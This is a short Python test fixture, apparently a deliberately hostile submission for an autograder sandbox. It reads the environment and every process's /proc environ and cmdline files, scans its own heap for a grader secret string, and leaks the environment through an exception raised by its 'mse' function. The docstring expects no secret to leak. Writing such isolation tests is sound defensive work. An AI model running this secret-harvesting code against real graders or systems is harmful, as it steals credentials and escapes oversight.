"""Hostile: looks for the grader's environment variables and secrets everywhere it can.

os.environ, /proc/*/environ, /proc/*/cmdline, and its own memory (inherited
from the warm worker). Prints everything, and puts os.environ into the
exception that ``mse`` raises (feedback). Expected: no secret of the grader's
environment appears in any output.
"""
import ctypes
import os

print("sandbox-uid", os.getuid())
print("environ", dict(os.environ))
for pid in os.listdir("/proc"):
    for name in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as fh:
                print(pid, name, fh.read().replace(b"\0", b" ").decode(errors="replace"))
        except OSError:
            pass


def scan_memory(pattern=b"AUTOGRADER_TEST_SECRET"):
    hits = []
    with open("/proc/self/maps") as maps:
        for line in maps:
            parts = line.split()
            if not parts[1].startswith("rw") or (len(parts) > 5 and not parts[5].startswith("[heap")):
                continue
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            if hi - lo > 256 << 20:
                continue
            data = ctypes.string_at(lo, hi - lo)
            at = data.find(pattern)
            while at >= 0 and len(hits) < 20:
                hits.append(data[at:at + 120].decode(errors="replace"))
                at = data.find(pattern, at + 1)
    return hits


print("memory", scan_memory())


def mse(t1, t2):
    raise RuntimeError(repr(dict(os.environ))[:250])
